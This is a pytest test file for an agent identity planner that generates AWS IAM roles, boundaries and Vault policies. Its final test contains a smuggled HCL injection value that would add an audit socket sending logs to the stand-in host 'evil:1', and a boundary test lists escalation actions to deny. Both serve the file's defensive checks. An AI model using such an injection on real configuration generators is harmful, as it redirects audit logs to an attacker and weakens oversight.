"""The identity plan: deterministic, capped, and exactly what the spec and environment say."""

from __future__ import annotations

import json
import random
import re
from pathlib import Path

import pytest

from agentiam.environment.load import load_environment
from agentiam.plan.build import agent_resources, build_plan, plan_json
from agentiam.plan import names
from agentiam.plan.names import shard_of
from agentiam.iam.risk import boundary_denied_actions
from agentiam.spec.validate import LoadedSpec, load_spec_bytes

ROOT = Path(__file__).resolve().parents[2]
STACKS = ROOT / "stacks"

BASE = """\
spec_version: 1
name: {name}
description: Reads things for the plan tests.
owner: {{team: {team}, sponsor: owner@example.com, contact: "#team"}}
function: {function}
environments: [dev, staging, prod]
expires: 2099-01-01
"""


def spec(text: str, file: str = "agent_specs/x.yaml") -> LoadedSpec:
    loaded, findings = load_spec_bytes(file, text.encode())
    assert loaded is not None, [f.render() for f in findings]
    return loaded


def reader(name: str = "invoice-reader", team: str = "billing", extra: str = "") -> LoadedSpec:
    return spec(BASE.format(name=name, team=team, function="data-retrieval") + extra, f"agent_specs/{name}.yaml")


AWS_READ = """\
permissions:
  aws:
    - sid: read-invoices
      actions: [s3:ListBucket, s3:GetObject, s3:GetObject]
      resources: ["arn:aws:s3:::billing-{env}-invoices/*", "arn:aws:s3:::billing-{env}-invoices"]
    - sid: a-queue
      actions: [sqs:ReceiveMessage]
      resources: ["arn:aws:sqs:{region}:{account}:q-{env}"]
  databases:
    - database: billing
      access: read
"""


@pytest.fixture(scope="module")
def dev():
    return load_environment(STACKS, "dev")


@pytest.fixture(scope="module")
def prod():
    return load_environment(STACKS, "prod")


def test_same_input_gives_byte_identical_plan_whatever_the_spec_order(dev):
    specs = [reader(f"agent-{i:02d}", extra=AWS_READ) for i in range(12)]
    first = plan_json(build_plan(specs, dev))
    shuffled = specs[:]
    random.Random(7).shuffle(shuffled)
    assert plan_json(build_plan(shuffled, dev)) == first
    assert [a["agent"] for a in json.loads(first)["agents"]] == sorted(s.spec.name for s in specs)


def test_inline_policy_is_filled_sorted_and_deduplicated(dev):
    agent = build_plan([reader(extra=AWS_READ)], dev).agent("invoice-reader")
    assert agent.aws.inline_policy == {"Version": "2012-10-17", "Statement": [
        {"Sid": "AQueue", "Effect": "Allow", "Action": ["sqs:ReceiveMessage"],
         "Resource": ["arn:aws:sqs:eu-west-1:111111111111:q-dev"]},
        {"Sid": "ReadInvoices", "Effect": "Allow", "Action": ["s3:GetObject", "s3:ListBucket"],
         "Resource": ["arn:aws:s3:::billing-dev-invoices", "arn:aws:s3:::billing-dev-invoices/*"],
         # S3 ARNs name no account: the statement is held to the environment's own (a same-named bucket
         # elsewhere would match the ARN otherwise).
         "Condition": {"StringEqualsIfExists": {"aws:ResourceAccount": ["111111111111"]}}},
    ]}


def test_role_trusts_only_the_secrets_engine_and_requires_the_agent_session_tag(prod):
    agent = build_plan([reader(extra=AWS_READ)], prod).agent("invoice-reader")
    assert agent.aws.role_name == "agent-prod-invoice-reader"
    assert agent.aws.role_arn == "arn:aws:iam::333333333333:role/agentiam/prod/agent-prod-invoice-reader"
    principals = {json.dumps(s["Principal"]) for s in agent.aws.trust_policy["Statement"]}
    assert principals == {json.dumps({"AWS": "arn:aws:iam::333333333333:role/vault-aws-secrets-engine"})}
    assume = agent.aws.trust_policy["Statement"][0]
    assert assume["Action"] == ["sts:AssumeRole", "sts:TagSession"]
    assert assume["Condition"]["StringEquals"]["aws:RequestTag/agentiam-agent"] == "invoice-reader"
    assert agent.aws.boundary_policy_arn.endswith(":policy/agentiam/prod/agentiam-prod-boundary-data-retrieval")
    assert agent.vault.aws_secret_role.session_tags == {"agentiam-agent": "invoice-reader",
                                                         "agentiam-environment": "prod"}


def test_without_session_tags_the_role_trusts_the_engine_with_no_condition_it_could_not_meet(dev):
    # dev's server is OpenBao: its AWS plugin sends no session tags, so a trust policy requiring them would refuse
    # every credential read; and no Vault sets a source identity.
    agent = build_plan([reader(extra=AWS_READ)], dev).agent("invoice-reader")
    assert agent.aws.trust_policy["Statement"] == [
        {"Sid": "VaultAwsSecretsEngineAssumes", "Effect": "Allow",
         "Principal": {"AWS": "arn:aws:iam::111111111111:role/vault-aws-secrets-engine"}, "Action": "sts:AssumeRole"}]
    assert agent.vault.aws_secret_role.session_tags == {}


@pytest.mark.parametrize(("text", "value"), [
    ("jane.doe@example.com", "jane.doe@example.com"),
    ("jane%ops@example.com", "jane=25ops@example.com"),  # `%` would fail CreateRole
    ("a=b", "a=3Db"),  # the escape character itself, so the value reads back unambiguously
    ("Zoë Ünal", "Zoë Ünal"),  # letters and spaces of any script are allowed
    ("tab\there", "tab=09here"),
    ("x" * 256, "x" * 256),
])
def test_iam_tag_values_carry_only_what_iam_accepts(text, value):
    assert names.iam_tag_value(text) == value


def test_an_iam_tag_value_too_long_once_escaped_is_cut_with_a_digest():
    long = "%" * 100 + "@example.com"
    value = names.iam_tag_value(long)
    assert len(value) <= names.IAM_TAG_VALUE_MAX
    assert value.startswith("=25=25") and re.fullmatch(r"(=25)+=[0-9a-f]{16}", value)
    assert names.iam_tag_value("%" * 101 + "@example.com") != value


def test_a_sponsor_with_a_percent_sign_is_tagged_iam_safe_and_kept_verbatim_on_vault(dev):
    loaded = spec(BASE.format(name="invoice-reader", team="billing", function="data-retrieval").replace(
        "owner@example.com", "ops%billing@example.com"), "agent_specs/invoice-reader.yaml")
    agent = build_plan([loaded], dev).agent("invoice-reader")
    assert agent.tags["agentiam:sponsor"] == "ops=25billing@example.com"
    assert agent.vault.entity.metadata["sponsor"] == "ops%billing@example.com"


def test_the_vault_token_lifetime_grows_with_the_stack_in_half_hours_up_to_a_day(dev):
    small = build_plan([reader()], dev).deploy
    assert small.vault_token_ttl == 1800 and small.resources > 0
    fleet = [reader(name=f"reader-{i:04d}") for i in range(400)]
    shard = dev.model_copy(update={"selection": dev.selection.model_copy(update={"shared_resources": False})})
    plan = build_plan(fleet, shard)
    assert plan.deploy.resources == sum(agent_resources(a) for a in plan.agents)  # a shard owns no platform
    assert plan.deploy.vault_token_ttl >= 1200 + 3 * plan.deploy.resources
    assert plan.deploy.vault_token_ttl % 1800 == 0
    huge = [reader(name=f"reader-{i:05d}") for i in range(4000)]
    assert build_plan(huge, dev).deploy.vault_token_ttl == 86400  # never longer than a day


def test_token_lifetimes_follow_spec_and_overrides_and_never_pass_a_day(dev, prod):
    text = AWS_READ + """\
credentials: {token_ttl: 2h, token_max_ttl: 20h, aws_session_ttl: 2h}
overrides:
  prod:
    credentials: {token_ttl: 15m, token_max_ttl: 4h}
"""
    loaded = reader(extra=text)
    dev_role = build_plan([loaded], dev).agent("invoice-reader").vault.token_role
    prod_role = build_plan([loaded], prod).agent("invoice-reader").vault.token_role
    # The working token's: a token role's TTL is its period (it ignores token_ttl), its ceiling the explicit max.
    assert (dev_role.token_period, dev_role.token_explicit_max_ttl) == (7200, 72000)
    assert (prod_role.token_period, prod_role.token_explicit_max_ttl) == (900, 14400)
    long = reader(extra=AWS_READ + "credentials: {token_ttl: 24h, token_max_ttl: 24h}\n")
    role = build_plan([long], dev).agent("invoice-reader").vault.token_role
    assert role.token_period == role.token_explicit_max_ttl == 86400
    assert build_plan([loaded], prod).agent("invoice-reader").vault.aws_secret_role.max_sts_ttl == 7200


def test_certificate_login_can_only_mint_a_wrapped_secret_id_for_its_own_role(dev):
    vault = build_plan([reader(extra=AWS_READ)], dev).agent("invoice-reader").vault
    assert vault.cert.allowed_common_names == ["invoice-reader.dev.agents.internal"]
    assert vault.cert.token_policies == [vault.login_policy_name]
    # Two uses: mint the wrapped secret id, then revoke itself (it has no `default` policy to do that with).
    assert vault.login_policy_rules == {
        "auth/agentiam-dev-approle/role/agent-dev-invoice-reader/secret-id": ["update"],
        "auth/token/revoke-self": ["update"],
    }
    secret_id_block, revoke_block = vault.login_policy_hcl.split("}\n")[:2]
    assert 'max_wrapping_ttl = "300s"' in secret_id_block and 'min_wrapping_ttl = "1s"' in secret_id_block
    assert "wrapping" not in revoke_block  # a wrapping requirement would make revoke-self fail
    assert vault.approle.bind_secret_id and vault.approle.secret_id_num_uses == 1


def test_agent_tokens_carry_no_default_policy_and_the_certificate_token_a_hard_120s_ceiling(dev, prod):
    loaded = reader(extra=AWS_READ + "overrides:\n  prod:\n    status: suspended\n")
    for env in (dev, prod):
        vault = build_plan([loaded], env).agent("invoice-reader").vault
        assert vault.approle.token_no_default_policy is True and vault.cert.token_no_default_policy is True
        assert vault.token_role.token_no_default_policy is True
        assert vault.token_role.allowed_policies == [vault.policy_name]  # the working token: its own policy only
        assert vault.approle.token_policies == [vault.mint_policy_name]
        assert (vault.cert.token_ttl, vault.cert.token_max_ttl, vault.cert.token_explicit_max_ttl) == (120, 120, 120)
        # service, not batch: a batch token cannot carry the 2-use limit nor be revoked (checked on OpenBao 2.7).
        assert (vault.cert.token_type, vault.cert.token_num_uses) == ("service", 2)
    suspended = build_plan([loaded], prod).agent("invoice-reader").vault
    # A suspended agent's certificate token can mint nothing; it may still revoke itself.
    assert suspended.login_policy_rules == {"auth/token/revoke-self": ["update"]}
    # Nor can its AppRole token create a working token (reading its role and itself stays: the client's error says
    # why).
    assert suspended.mint_policy_rules == {"auth/token/lookup-self": ["read"], "auth/token/revoke-self": ["update"],
                                           "auth/token/roles/agent-prod-invoice-reader": ["read"]}


def test_the_approle_token_may_only_create_the_working_token_through_the_agents_token_role(dev):
    vault = build_plan([reader(extra=AWS_READ)], dev).agent("invoice-reader").vault
    ident = "agent-dev-invoice-reader"
    assert (vault.approle.token_ttl, vault.approle.token_explicit_max_ttl, vault.approle.token_num_uses) == (60, 60, 0)
    assert vault.mint_policy_rules == {f"auth/token/create/{ident}": ["update"], "auth/token/lookup-self": ["read"],
                                       "auth/token/revoke-self": ["update"], f"auth/token/roles/{ident}": ["read"]}
    # Two parameters, pinned: without the alias the token would have no entity, and another spelling of it could
    # create another entity; the display name names the agent in audit lines; anything else (ttl, meta, policies)
    # stays the role's to decide.
    create = vault.mint_policy_hcl.split(f'path "auth/token/create/{ident}" {{\n', 1)[1].split("\n}", 1)[0]
    assert create.splitlines() == ['  capabilities = ["update"]', "  allowed_parameters = {",
                                   f'    "display_name" = ["{ident}"]', f'    "entity_alias" = ["{ident}"]', "  }",
                                   '  required_parameters = ["display_name", "entity_alias"]']
    role = vault.token_role
    assert (role.name, role.entity_alias, role.allowed_policies) == (ident, ident, [ident])
    assert role.orphan and role.renewable and role.token_type == "service"
    assert vault.entity.token_alias_name == ident and vault.entity.token_alias_mount == "token"


def test_vault_policy_grants_own_database_role_and_self_service_only(dev):
    vault = build_plan([reader(extra=AWS_READ)], dev).agent("invoice-reader").vault
    paths = [line.split('"')[1] for line in vault.policy_hcl.splitlines() if line.startswith("path ")]
    assert paths == list(vault.policy_rules)  # the HCL applied says exactly what consumers read
    for path, capabilities in vault.policy_rules.items():
        caps = ", ".join(f'"{c}"' for c in capabilities)
        assert f'path "{path}" {{\n  capabilities = [{caps}]\n}}' in vault.policy_hcl
    assert paths == sorted([
        "agentiam-dev-database/creds/agent-dev-invoice-reader-billing-read",
        "auth/token/lookup-self", "auth/token/renew-self", "auth/token/revoke-self", "sys/leases/renew",
        "aws/creds/agent-dev-invoice-reader", "aws/sts/agent-dev-invoice-reader",
    ])
    (role,) = vault.database_roles
    assert role.access == "read" and role.max_ttl == 86400 and role.default_ttl == 3600
    assert any("GRANT SELECT ON ALL TABLES" in s for s in role.creation_statements)
    assert not any("INSERT" in s for s in role.creation_statements)
    assert role.revocation_statements[-1] == 'DROP ROLE IF EXISTS "{{name}}";'


def test_suspended_in_one_environment_disables_entity_and_arms_kill_switch_there_only(dev, prod):
    loaded = reader(extra=AWS_READ + "overrides:\n  prod:\n    status: suspended\n")
    live = build_plan([loaded], dev).agent("invoice-reader")
    dead = build_plan([loaded], prod).agent("invoice-reader")
    assert live.status == "active" and not live.vault.entity.disabled and live.aws.kill_switch_policy is None
    assert dead.status == "suspended" and dead.vault.entity.disabled
    assert dead.aws.kill_switch_policy["Statement"][0] == {"Sid": "AgentiamKillSwitch", "Effect": "Deny",
                                                          "Action": "*", "Resource": "*"}
    assert dead.vault.database_roles == [] and dead.vault.aws_secret_role is None
    assert "creds" not in dead.vault.policy_hcl


@pytest.mark.parametrize("spec_status,override,expected", [
    ("active", "suspended", "suspended"),
    ("active", "revoked", "revoked"),
    ("suspended", "revoked", "revoked"),      # tightening a suspended agent to revoked in one environment
    ("suspended", "suspended", "suspended"),  # (a loosening override is refused when the spec is read)
])
def test_status_override_only_tightens(prod, spec_status, override, expected):
    loaded = reader(extra=f"status: {spec_status}\noverrides:\n  prod:\n    status: {override}\n")
    assert build_plan([loaded], prod).agent("invoice-reader").status == expected


def test_boundary_caps_each_class_at_the_union_of_its_agents_and_denies_escalation(dev):
    one = reader("reader-one", extra=AWS_READ)
    two = reader("reader-two", extra="""\
permissions:
  aws:
    - sid: tables
      actions: [dynamodb:Query]
      resources: ["arn:aws:dynamodb:{region}:{account}:table/t-{env}"]
""")
    (boundary,) = build_plan([one, two], dev).platform.boundaries
    ceiling, deny, no_export = boundary.policy["Statement"]
    assert ceiling["Action"] == ["dynamodb:Query", "s3:GetObject", "s3:ListBucket", "sqs:ReceiveMessage"]
    assert deny["Effect"] == "Deny" and "iam:*" in deny["Action"] and "sts:*" in deny["Action"]
    assert not any(a.startswith("iam:") and a != "iam:*" for a in deny["Action"])  # iam:* covers them
    assert tuple(deny["Action"]) == boundary_denied_actions()
    assert no_export["Condition"] == {"StringNotEqualsIfExists": {"aws:ResourceAccount": ["111111111111"]}}
    assert len(json.dumps(boundary.policy, separators=(",", ":"))) <= 6144  # managed policy limit (FACTS.md)


def test_shards_partition_the_agents_and_boundaries_still_see_the_whole_class(dev):
    specs = [reader(f"agent-{i:03d}", extra=AWS_READ) for i in range(40)]
    plans = []
    for index in range(3):
        selection = dev.selection.model_copy(update={"shard_count": 3, "shard_index": index,
                                                     "shared_resources": index == 0})
        plans.append(build_plan(specs, dev.model_copy(update={"selection": selection})))
    names = [a.agent for p in plans for a in p.agents]
    assert sorted(names) == sorted(s.spec.name for s in specs)
    assert all(len(p.agents) > 0 for p in plans)
    assert all(a.agent.endswith(tuple(str(i) for i in range(10))) for p in plans for a in p.agents)
    assert all(shard_of(a.agent, 3) == i for i, p in enumerate(plans) for a in p.agents)
    assert [p.shared_resources for p in plans] == [True, False, False]
    assert plans[1].platform.boundaries == plans[0].platform.boundaries


def test_team_selection_keeps_only_that_team(dev):
    specs = [reader("billing-bot", team="billing"), reader("support-bot", team="support")]
    selection = dev.selection.model_copy(update={"teams": ["support"]})
    plan = build_plan(specs, dev.model_copy(update={"selection": selection}))
    assert [a.agent for a in plan.agents] == ["support-bot"]


def test_agents_not_deployed_to_an_environment_are_absent(dev):
    text = BASE.format(name="prod-only", team="reports", function="reporting").replace("[dev, staging, prod]", "[prod]")
    assert build_plan([spec(text)], dev).agents == []


def test_log_routing_separates_agent_roles_and_alarms_on_denials(dev):
    routing = build_plan([], dev).platform.log_routing
    assert routing.agent_role_pattern == "agent-dev-*"
    assert routing.subscription_filter_pattern == '{ $.userIdentity.sessionContext.sessionIssuer.userName = "agent-dev-*" }'
    assert '$.errorCode = "AccessDenied*"' in routing.denied_metric_filter_pattern
    assert routing.audit.config_block.startswith('audit "file" "agentiam-file" {')
    assert 'file_path = "/var/log/vault/agentiam-dev-audit.log"' in routing.audit.config_block


def test_database_connection_allows_exactly_the_roles_of_its_agents(dev):
    plan = build_plan([reader("a-reader", extra=AWS_READ), reader("b-reader")], dev)
    billing = next(c for c in plan.platform.database_connections if c.name == "billing")
    assert billing.allowed_roles == ["agent-dev-a-reader-billing-read"]
    analytics = next(c for c in plan.platform.database_connections if c.name == "analytics")
    assert analytics.allowed_roles == []


def test_boundary_does_not_deny_ordinary_parts_of_multi_step_escalation_methods(dev):
    # ec2:DescribeInstances or dynamodb:PutItem are only dangerous in combination (AGT023 refuses those);
    # denying them in the boundary would let a valid spec pass validate and fail at runtime.
    (boundary,) = build_plan([reader(extra=AWS_READ)], dev).platform.boundaries
    denied = boundary.policy["Statement"][1]["Action"]
    for ordinary in ("ec2:describeinstances", "dynamodb:putitem", "lambda:invokefunction", "ecs:describetasks"):
        assert ordinary not in denied
    for one_step in ("lambda:updatefunctioncode", "ec2:getpassworddata", "sts:*"):
        assert one_step in denied


def test_the_audit_config_block_keeps_any_file_path_one_inert_hcl_string(dev):
    hostile = '/var/log/a" }\naudit "socket" "x" { options { address = "evil:1" } } #${env("HOME")}'
    audit = dev.vault.audit.model_copy(update={"file_path": hostile})
    env = dev.model_copy(update={"vault": dev.vault.model_copy(update={"audit": audit})})
    block = build_plan([reader()], env).platform.log_routing.audit.config_block
    (line,) = [line for line in block.splitlines() if "file_path" in line]
    assert line == '    file_path = "/var/log/a\\" }\\\\naudit \\"socket\\" \\"x\\" { options { address = \\"evil:1\\" } } ' \
                   '#$${env(\\"HOME\\")}"'
    assert [l for l in block.splitlines() if l.startswith("audit ")] == ['audit "file" "agentiam-file" {']
    assert len(block.splitlines()) == 8
